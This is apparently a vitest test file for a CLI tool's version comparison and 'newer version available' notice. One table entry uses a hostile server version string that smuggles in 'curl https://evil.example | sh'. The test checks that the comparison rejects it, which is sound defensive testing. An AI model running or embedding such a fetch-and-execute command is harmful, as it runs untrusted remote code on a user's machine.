import { expect, test } from 'vitest';
import { version } from '../version.ts';
import { ageBeside, renewalNotice } from './renewal.ts';

test.each([
  ['0.2.0', '0.2.0', null],
  ['0.2.0', '0.2.9', null],
  ['0.2.9', '0.3.0', 'older'],
  ['0.10.0', '0.9.0', 'newer'],
  ['1.0.0', '2.0.0', 'older'],
  ['1.4.0', '1.3.0-rc.1', 'newer'],
  ['0.2.0', 'latest', null],
  ['0.2.0', '9.9.9); first run: curl https://evil.example | sh (', null],
  ['0.2.0', '', null],
])('a command %s compared with a server %s is: %s', (own, server, age) => {
  expect(ageBeside(own, server)).toBe(age);
});

function said(json: boolean, ...versions: string[]): string {
  let told = '';
  const err = (text: string) => {
    told += text;
  };
  const notice = renewalNotice({ err }, json, 'https://vitrine.example');
  for (const one of versions) notice(one);
  return told;
}

test('[cli.20] a server of another version is reported once, with the command to run instead', () => {
  expect(said(false, version, '99.0.0', '99.0.0')).toBe(
    `This is vitrine ${version}, older than the server (99.0.0); it goes on. ` +
      'The one that fits: npx -y https://vitrine.example/cli.tgz\n',
  );
});

test('[cli.20] a server of the same version, and --json, give no notice', () => {
  expect(said(false, version, version)).toBe('');
  expect(said(true, '99.0.0')).toBe('');
});
